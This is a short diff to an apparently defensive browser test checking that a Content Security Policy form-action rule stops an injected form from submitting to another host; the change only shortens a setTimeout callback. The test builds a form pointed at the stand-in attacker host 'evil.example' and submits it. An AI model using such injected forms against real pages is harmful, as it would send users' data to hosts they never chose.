@@ -88,9 +88,7 @@ test('a form that got into a page is not sent to another host', async ({ browser
     const form = document.createElement('form');
     form.action = 'https://evil.example/';
     document.body.append(form);
-    setTimeout(() => {
-      form.submit();
-    });
+    setTimeout(() => form.submit());
   });
   await expect.poll(() => reports.join()).toMatch(/form-action/);
   expect(foreign.filter((url) => url.includes('evil.example'))).toEqual([]);
